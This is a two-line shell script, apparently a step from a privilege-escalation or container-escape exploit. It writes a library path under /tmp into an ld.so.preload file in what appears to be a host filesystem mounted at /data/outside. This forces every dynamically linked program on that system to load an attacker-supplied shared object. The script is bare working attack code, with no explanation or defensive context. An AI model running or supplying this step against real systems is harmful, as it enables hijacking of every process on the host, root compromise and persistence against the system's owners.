#!/bin/sh
echo /tmp/x.so > /data/outside/etc/ld.so.preload
